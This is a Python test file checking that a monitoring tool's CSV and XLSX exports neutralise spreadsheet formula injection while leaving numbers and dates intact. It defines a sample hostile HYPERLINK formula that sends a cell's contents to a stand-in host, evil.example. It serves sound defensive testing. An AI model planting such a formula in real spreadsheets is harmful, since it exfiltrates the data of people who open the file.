"""The one export writer: text that would start a formula is neutralised; numbers are left alone."""

from __future__ import annotations

import csv
import io
import math
from datetime import datetime

import numpy as np
import openpyxl
import pandas as pd
import pytest

from opsmon import spreadsheet
from opsmon.spreadsheet import cell, csv_bytes, neutralise, xlsx_bytes

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "=", "-"])
def test_text_starting_a_formula_gets_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["长春市第一人民医院", "", " =1", "'=already", "a=b", "1-2", "2025-01", "220102"])
def test_other_text_is_unchanged(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-5, -5.0, 0, 3.25, np.float64(-5.0), np.int64(-3), True, None, pd.NA,
                                   datetime(2025, 1, 1)])
def test_non_text_is_unchanged(value):
    assert neutralise(value) is value


def test_cell_converts_frame_values():
    assert cell(None) is None and cell(float("nan")) is None and cell(pd.NA) is None and cell(pd.NaT) is None
    assert cell(np.float64(-5.0)) == -5.0 and type(cell(np.float64(-5.0))) is float
    assert type(cell(np.int64(-3))) is int
    assert cell(np.str_("=1")) == "'=1"  # numpy text is text
    stamp = pd.Timestamp("2025-03-05 09:30")
    assert cell(stamp) == datetime(2025, 3, 5, 9, 30)
    assert cell(stamp, lambda d: f"{d:%Y-%m-%d}") == "2025-03-05"
    assert cell(stamp, lambda d: f"+{d:%Y}") == "'+2025"  # what the formatter makes is text like any other


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame({
        "name": [HOSTILE, "@cmd", "普通医院", None],
        "code": pd.array(["-220102", "220104", "+1", pd.NA], dtype="string"),
        "value": [-5.0, 0.25, float("nan"), 1.5],
        "count": [-3, 0, 7, 1],
    })


def test_csv_neutralises_text_and_leaves_numbers():
    content = csv_bytes(hostile_frame(), preamble=["导出，含逗号, 和=号", "数据截至：—"])
    assert content.startswith(spreadsheet.BOM)
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0] == ["# 导出，含逗号, 和=号"]  # one cell, although the title has a comma
    assert rows[1] == ["# 数据截至：—"]
    assert rows[2] == ["name", "code", "value", "count"]
    assert rows[3] == ["'" + HOSTILE, "'-220102", "-5.0", "-3"]
    assert rows[4] == ["'@cmd", "220104", "0.25", "0"]
    assert rows[5] == ["普通医院", "'+1", "", "7"]
    assert rows[6] == ["", "", "1.5", "1"]
    # The negative number is written bare: not quoted, not prefixed.
    assert "\n-5.0," not in content.decode("utf-8-sig") and ",-5.0," in content.decode("utf-8-sig")


def test_csv_neutralises_text_headers():
    rows = list(csv.reader(io.StringIO(csv_bytes(pd.DataFrame({"=x": [1], "-y": ["a"]})).decode("utf-8-sig"))))
    assert rows == [["'=x", "'-y"], ["1", "a"]]


def test_xlsx_holds_no_formula_and_keeps_numbers():
    frame = hostile_frame()
    content = xlsx_bytes("=title", "+subtitle", ["-名称", "代码", "数值", "个数"], frame.itertuples(index=False),
                         column_formats={2: "0.0%"}, row_formats=[{3: "#,##0"}, {}, {}, {}], merge_title=True)
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    assert ws["A1"].value == "'=title" and ws["A2"].value == "'+subtitle" and ws["A4"].value == "'-名称"
    name, code, value, count = ws[5]
    assert name.data_type == "s" and name.value == "'" + HOSTILE
    assert code.data_type == "s" and code.value == "'-220102"
    assert value.data_type == "n" and value.value == -5.0 and value.number_format == "0.0%"
    assert count.data_type == "n" and count.value == -3 and count.number_format == "#,##0"
    assert ws["C7"].value is None and ws["A8"].value is None  # NaN and None: empty cells
    assert ws.freeze_panes == "A5" and "A1:D1" in ws.merged_cells
    assert ws.title == "=title"  # a sheet name is not a cell: nothing runs


def test_xlsx_layout():
    content = xlsx_bytes("标题: a/b", "截至", ["医院名称很长很长", "x"], [["a", 1]], widths=[12, 30])
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    assert ws.title == "标题： a／b"  # characters Excel refuses in sheet names, full-width
    assert ws["A1"].font.bold and ws["A4"].font.bold and ws["A4"].fill.fgColor.rgb.endswith("DDE7F0")
    assert ws["A3"].value is None and [c.value for c in ws[5]] == ["a", 1]
    assert ws.column_dimensions["A"].width == 12 and ws.column_dimensions["B"].width == 30
    assert not ws.merged_cells.ranges
    assert math.isclose(spreadsheet.default_width("医院名称很长很长"), 18)


# ------------------------------------------------------------------------------ a dashboard download
def test_dashboard_table_download_is_neutralised():
    from opsmon.dashboard import exports

    frame = pd.DataFrame({"name": [HOSTILE, "普通医院"], "code": ["12220102MB0000B0XX", "-1"],
                          "metric": [-5.0, 0.5], "received": [pd.Timestamp("2025-03-05 01:30", tz="UTC"), pd.NaT]})
    columns = [("name", "医院", None), ("code", "机构代码", "@"), ("metric", "指标值", "0.0%"),
               ("received", "报送时间", None)]
    kwargs = {"title": "风险清单", "subtitle": "筛选：无", "as_of": None, "lang": "zh"}

    content = exports.table(frame, columns, "csv", **kwargs)
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0][0].startswith("# 风险清单") and rows[1][0].startswith("# 数据截至")  # PREAMBLE_LINES
    assert len(rows[:exports.PREAMBLE_LINES]) == 2 and rows[2] == ["医院", "机构代码", "指标值", "报送时间"]
    assert rows[3][:3] == ["'" + HOSTILE, "12220102MB0000B0XX", "-5.0"]
    assert rows[4][:3] == ["普通医院", "'-1", "0.5"]
    back = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig", skiprows=exports.PREAMBLE_LINES)
    assert back["医院"].tolist() == ["'" + HOSTILE, "普通医院"] and back["指标值"].tolist() == [-5.0, 0.5]

    ws = openpyxl.load_workbook(io.BytesIO(exports.table(frame, columns, "xlsx", **kwargs))).active
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert ws["A1"].value == "风险清单" and ws["A2"].value.startswith("筛选：无")
    assert [c.value for c in ws[4]] == ["医院", "机构代码", "指标值", "报送时间"]
    name, code, metric, received = ws[5]
    assert name.data_type == "s" and name.value == "'" + HOSTILE
    assert code.value == "12220102MB0000B0XX" and code.number_format == "@"
    assert metric.data_type == "n" and metric.value == -5.0 and metric.number_format == "0.0%"
    assert received.value == "2025-03-05 09:30"  # the dashboard's local time text, as before
    assert ws["B6"].value == "'-1" and ws["D6"].value is None


# ------------------------------------------------------------------------------ the XLSX writer itself
def test_xlsx_round_trips_every_kind_of_cell():
    """What openpyxl wrote before, read back the same: text (awkward text too), numbers exact, booleans,
    dates and times as Excel dates, empty text and missing values as empty cells."""
    from datetime import date, time, timezone
    from decimal import Decimal

    awkward = ["  spaced  ", "line\r\nbreak", "bell\x07", "_x0041_ literal", "<&>\"'", "", "长春市"]
    frame = pd.DataFrame({
        "text": pd.Series(awkward, dtype=object),
        "floats": [0.1, 1 / 3, -5.0, 1e-300, 2.5e17, float("inf"), float("nan")],
        "ints": np.arange(-3, 4, dtype=np.int64),
        "flags": [True, False, True, False, True, False, True],
        "mixed": [Decimal("1.25"), np.float32(0.5), date(2025, 3, 5), datetime(2025, 3, 5, 9, 30), time(12, 0),
                  pd.NA, "=1"],
        "nullable": pd.array([1, None, 3, 4, 5, 6, 7], dtype="Int64"),
        "category": pd.Categorical(["a", "b", None, "a", "b", "a", "-x"]),
    })
    content = xlsx_bytes("t", "s", list(frame.columns), frame, column_formats={1: "0.00"})
    rows = list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(min_row=5, values_only=True))
    text, floats, ints, flags, mixed, nullable, category = zip(*rows)
    assert list(text) == ["  spaced  ", "line\r\nbreak", "bell_x0007_", "_x0041_ literal", "<&>\"'", None, "长春市"]
    assert list(floats) == [0.1, 1 / 3, -5.0, 1e-300, 2.5e17, None, None]  # exact; ±inf and NaN: empty
    assert list(ints) == [-3, -2, -1, 0, 1, 2, 3] and list(flags) == [True, False] * 3 + [True]
    assert list(mixed) == [1.25, 0.5, datetime(2025, 3, 5), datetime(2025, 3, 5, 9, 30), time(12, 0), None, "'=1"]
    assert list(nullable) == [1, None, 3, 4, 5, 6, 7] and list(category) == ["a", "b", None, "a", "b", "a", "'-x"]
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    assert ws["B5"].number_format == "0.00" and ws["E7"].number_format == "yyyy-mm-dd"
    assert ws["E8"].number_format == "yyyy-mm-dd h:mm:ss" and ws["E9"].number_format == "h:mm:ss"
    assert ws["B11"].value is None and ws["B11"].number_format == "0.00"  # an empty cell keeps its column's format
    dated = openpyxl.load_workbook(io.BytesIO(xlsx_bytes("t", "s", ["d"], [[date(2025, 3, 5)]],
                                                         column_formats={0: "0.00"}))).active
    assert dated["A5"].number_format == "0.00"  # a format given wins over the date's default
    with pytest.raises(TypeError, match="timezones"):  # openpyxl's refusal
        xlsx_bytes("t", "s", ["when"], [[datetime(2025, 1, 1, tzinfo=timezone.utc)]])
    with pytest.raises(ValueError):  # (write-only openpyxl raises it without a message)
        xlsx_bytes("t", "s", ["what"], [[{"a": 1}]])


def test_xlsx_wide_ragged_and_per_row_formats():
    """Columns past Z, rows of unequal length, one format per row, a table with no rows."""
    headers = [f"h{i}" for i in range(30)]
    content = xlsx_bytes("t", "s", headers, [list(range(30)), [1, 2]],
                         column_formats={29: ["0.0%", None], 0: "0"}, widths=[12] * 30)
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    assert ws["AD4"].value == "h29" and ws["AD5"].value == 29 and ws["AD5"].number_format == "0.0%"
    assert ws["B6"].value == 2 and ws["C6"].value is None and ws["A6"].number_format == "0"
    assert ws.column_dimensions["AD"].width == 12 and ws.max_column == 30
    empty = openpyxl.load_workbook(io.BytesIO(xlsx_bytes("t", "s", ["a", "b"], []))).active
    assert [c.value for c in empty[4]] == ["a", "b"] and empty.max_row == 4
    with pytest.raises(ValueError, match="formats for"):
        xlsx_bytes("t", "s", ["a"], [[1]], column_formats={0: ["0", "0"]})


def test_a_large_table_is_written_in_blocks_and_keeps_its_order(monkeypatch):
    monkeypatch.setattr(spreadsheet, "BLOCK_ROWS", 7)  # many blocks, the last one short
    frame = pd.DataFrame({"code": [f"C{i:03d}" for i in range(50)], "value": np.arange(50) / 4,
                          "name": ["=x" if i % 9 == 0 else f"n{i % 4}" for i in range(50)]})
    ws = openpyxl.load_workbook(io.BytesIO(xlsx_bytes("t", "s", ["code", "value", "name"], frame,
                                                      column_formats={1: ["0.00"] * 50}))).active
    assert [r for r in ws.iter_rows(min_row=5, values_only=True)] == [
        (f"C{i:03d}", i / 4, "'=x" if i % 9 == 0 else f"n{i % 4}") for i in range(50)]
    assert csv_bytes(frame, preamble=["a"]) == b"".join(spreadsheet.csv_chunks(frame, preamble=["a"]))
    monkeypatch.setattr(spreadsheet, "BLOCK_ROWS", 100_000)
    assert csv_bytes(frame, preamble=["a"]) == spreadsheet.BOM + (
        "# a\n" + spreadsheet.neutralised_frame(frame).to_csv(index=False, lineterminator="\n")).encode()
